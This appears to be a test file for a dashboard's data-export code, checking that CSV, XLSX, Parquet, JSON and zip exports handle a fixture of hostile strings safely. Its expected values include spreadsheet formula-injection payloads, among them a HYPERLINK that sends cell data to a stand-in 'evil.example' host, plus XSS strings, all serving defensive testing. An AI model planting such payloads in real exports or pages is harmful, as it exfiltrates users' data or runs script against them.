/**
 * Every table export read back with a real reader: CSV with DuckDB and our parser, XLSX with
 * exceljs, Parquet with DuckDB and hyparquet, JSON with JSON.parse, the zip with fflate and the
 * data-package validator. The hostile fixture must come back as plain, neutralised text.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { parquetReadObjects } from 'hyparquet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openNodeDuckDB, type NodeClient } from '../../src/lib/data/duckdb-node';
import { dataPackage } from '../../src/lib/data/package';
import { bundleDescriptor, tableToZip } from '../../src/lib/export/bundle';
import { bibtexEscape, citationBibtex, citationText } from '../../src/lib/export/citation';
import { tableToCsv } from '../../src/lib/export/csv';
import { tableToJson } from '../../src/lib/export/json';
import { safeCell, textHandling } from '../../src/lib/export/neutralise';
import { provenanceFor } from '../../src/lib/export/provenance';
import { spreadsheetText as neutraliseFormula } from '../../src/lib/format/escape';
import { tableToParquet } from '../../src/lib/export/parquet';
import { metadataFor, valueOf } from '../../src/lib/export/table';
import { tableToXlsx } from '../../src/lib/export/xlsx';
import { parseCsv } from '../../src/lib/format/csv';
import { validatePackage } from '../../src/lib/data/validate-package';
import type { DataPackage } from '../../src/lib/data/package';
import { hostileStrings, hostileTable } from '../fixtures/hostile';

const table = hostileTable();
const metadata = metadataFor(
	table,
	citationText({ title: table.title, url: table.url, filters: table.filters.description }),
	new Date('2026-11-27T10:00:00Z'),
	provenanceFor(true, false, [])
);
const dir = mkdtempSync(join(tmpdir(), 'citsci-export-'));
let db: NodeClient;
beforeAll(async () => (db = await openNodeDuckDB()));
afterAll(() => db.close());

/** What a spreadsheet-bound cell must hold for each hostile string, written out by hand. */
const neutralised = [
	`'=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")`,
	"'+1+1",
	"'-2+3",
	"'@SUM(A1:A9)",
	"'\tTAB first",
	"'\rCR first",
	'<img src=x onerror=alert(1)>',
	'<script>alert(1)</script>',
	'javascript:alert(1)',
	'"quoted", with, commas',
	'line one\nline two',
	'東京 · Ελληνικά · العربية · हिन्दी',
	`'＝HYPERLINK("http://evil.example")`,
	"'＋1",
	"'﹣2",
	"'＠SUM(A1)",
	'\u200Fמים'
];

describe('formula neutralisation', () => {
	it('prefixes text that a spreadsheet would run, and leaves numbers and plain text alone', () => {
		expect(neutraliseFormula('=1+1')).toBe("'=1+1");
		expect(neutraliseFormula('\tx')).toBe("'\tx");
		expect(neutraliseFormula('Kenya')).toBe('Kenya');
		// Detected through NFKC, written as stored.
		expect(neutraliseFormula('＝1+1')).toBe("'＝1+1");
		expect(neutraliseFormula('Ｋenya')).toBe('Ｋenya');
		expect(neutraliseFormula('é=1')).toBe('é=1');
		expect(safeCell(-5)).toBe(-5);
		expect(safeCell('-5')).toBe("'-5");
		expect(safeCell(null)).toBeNull();
		expect(safeCell(['=a', 'b'])).toBe("'=a; b");
		expect(safeCell({ a: 1 })).toBe('{"a":1}');
	});

	it('neutralises column names too', () => {
		const csv = tableToCsv({ ...table, columns: [{ name: '=HYPERLINK("x")', type: 'string' }], rows: [{ '=HYPERLINK("x")': 'v' }] });
		expect(parseCsv(csv).header).toEqual([`'=HYPERLINK("x")`]);
	});
});

describe('CSV', () => {
	it('parses back equal to the table, through our parser and through DuckDB', async () => {
		const csv = tableToCsv(table);
		expect(csv.endsWith('\r\n')).toBe(true);
		const parsed = parseCsv(csv);
		expect(parsed.header).toEqual(['name', 'projects', 'share', 'goals']);
		expect(parsed.rows.slice(0, hostileStrings.length).map((r) => r[0])).toEqual(neutralised);
		const path = join(dir, 'hostile.csv');
		writeFileSync(path, csv);
		const rows = await db.query<{ name: string | null; projects: number | null; share: number | null; goals: string | null }>(
			`SELECT * FROM read_csv(?, header = true)`,
			[path]
		);
		expect(rows.map((r) => r.name)).toEqual([...neutralised, null]);
		expect(rows.map((r) => r.projects)).toEqual([...table.rows.slice(0, -1).map((r) => valueOf(r, 'projects')), null]);
		expect(rows[3].share).toBeCloseTo(0.375);
		expect(rows[1].goals).toBe('1; 2');
	});

	it('has an Excel-friendly variant with a byte-order mark', () => {
		const csv = tableToCsv(table, { excel: true });
		expect(csv.charCodeAt(0)).toBe(0xfeff);
		expect(parseCsv(csv).rows).toEqual(parseCsv(tableToCsv(table)).rows);
	});
});

describe('XLSX', () => {
	it('opens in exceljs with typed, neutralised cells and a metadata sheet', async () => {
		const buffer = await tableToXlsx(table, metadata);
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load(buffer);
		const data = workbook.getWorksheet('Data')!;
		expect(data.getRow(1).values).toEqual([undefined, 'name', 'projects', 'share', 'goals']);
		const names = hostileStrings.map((_, i) => data.getRow(i + 2).getCell(1).value);
		// XML (and so XLSX) reads a carriage return in text back as a line feed; the cell stays neutralised.
		expect(names).toEqual(neutralised.map((s) => s.replace('\r', '\n')));
		expect(data.getRow(2).getCell(2).value).toBe(-3);
		expect(typeof data.getRow(5).getCell(3).value).toBe('number');
		const about = workbook.getWorksheet('About')!;
		const fields = new Map<string, unknown>();
		about.eachRow((row, n) => n > 1 && fields.set(String(row.getCell(1).value), row.getCell(2).value));
		expect(fields.get('licence')).toBe('CC BY 4.0');
		expect(fields.get('filters')).toBe('Country: <b>Kenya</b>');
		expect(fields.get('textHandling')).toBe(textHandling());
	});
});

describe('Parquet', () => {
	it('reads back in native DuckDB and in hyparquet with the same rows and types', async () => {
		const buffer = tableToParquet(table, metadata);
		const path = join(dir, 'hostile.parquet');
		writeFileSync(path, new Uint8Array(buffer));
		const types = await db.query<{ column_name: string; column_type: string }>(`DESCRIBE SELECT * FROM read_parquet(?)`, [path]);
		expect(types.map((t) => [t.column_name, t.column_type])).toEqual([
			['name', 'VARCHAR'],
			['projects', 'INTEGER'],
			['share', 'DOUBLE'],
			['goals', 'VARCHAR']
		]);
		const rows = await db.query<Record<string, unknown>>(`SELECT * FROM read_parquet(?)`, [path]);
		expect(rows.map((r) => r.name)).toEqual([...hostileStrings, null]);
		expect(rows.map((r) => r.projects)).toEqual(table.rows.map((r) => valueOf(r, 'projects')));
		const meta = await db.query<{ key: string; value: string }>(`SELECT decode(key) AS key, decode(value) AS value FROM parquet_kv_metadata(?)`, [path]);
		expect(meta.find((m) => m.key === 'licence')?.value).toBe('CC BY 4.0');
		// The file says that it keeps formula-like text raw.
		expect(meta.find((m) => m.key === 'textHandling')?.value).toMatch(/Machine formats \(JSON, Parquet\): text is kept exactly as stored/);
		const viaHyparquet = await parquetReadObjects({ file: buffer });
		expect(viaHyparquet.map((r) => r.name)).toEqual([...hostileStrings, null]);
	});
});

describe('JSON', () => {
	it('keeps the original values beside the metadata', () => {
		const parsed = JSON.parse(tableToJson(table, metadata));
		expect(parsed.data.map((r: { name: string }) => r.name)).toEqual([...hostileStrings, null]);
		expect(parsed.data[1].goals).toEqual([1, 2]);
		expect(parsed.metadata).toMatchObject({ title: table.title, dataVersion: dataPackage.version, filters: 'Country: <b>Kenya</b>' });
		expect(parsed.metadata.columns).toHaveLength(4);
		expect(parsed.metadata.textHandling).toBe(textHandling());
	});
});

describe('zip bundle', () => {
	it('holds the CSV, a valid datapackage.json with filters, citation, time and version, and a readme', () => {
		const files = unzipSync(tableToZip(table, metadata));
		expect(Object.keys(files).sort()).toEqual(['README.txt', 'datapackage.json', 'hostile.csv']);
		const descriptor = JSON.parse(strFromU8(files['datapackage.json']));
		expect(descriptor).toMatchObject({ filters: { query: 'country=KEN' }, created: '2026-11-27T10:00:00.000Z', app: { name: 'citsci-sdg-dashboard' } });
		expect(descriptor.citation).toContain('Citizen Science for the SDGs dashboard');
		expect(descriptor).toEqual(bundleDescriptor(table, metadata));
		expect(descriptor.textHandling).toMatch(/^Spreadsheet formats \(CSV, XLSX\)/);
		expect(strFromU8(files['README.txt'])).toContain(`Text: ${textHandling()}`);
		// The bundle validates against its own schema.
		const { errors } = validatePackage(descriptor as DataPackage, { 'hostile.csv': strFromU8(files['hostile.csv']) });
		expect(errors).toEqual([]);
	});
});

describe('citation', () => {
	it('writes plain text and BibTeX with the data version and filters, escaping BibTeX specials', () => {
		const input = { title: table.title, url: table.url, filters: 'Country: Kenya', accessed: new Date('2026-11-27T00:00:00Z') };
		expect(citationText(input)).toBe(
			`Citizen Science for the SDGs dashboard (2026). ${table.title}. Curated inventory of ${dataPackage.curated.date}, data version ${dataPackage.version}. Filters: Country: Kenya. https://example.org/?country=KEN (accessed 2026-11-27). Licence: CC BY 4.0.`
		);
		const bib = citationBibtex(input);
		expect(bib).toMatch(/^@misc\{citsci_sdg_2026_hostile_b_title_b_quotes_braces_50_1_x,/);
		expect(bib).toContain('title        = {Hostile <b>title</b> \\& "quotes" \\{braces\\} 50\\% \\#1 \\_x\\_},');
		expect(bibtexEscape('a&b')).toBe('a\\&b');
	});
});
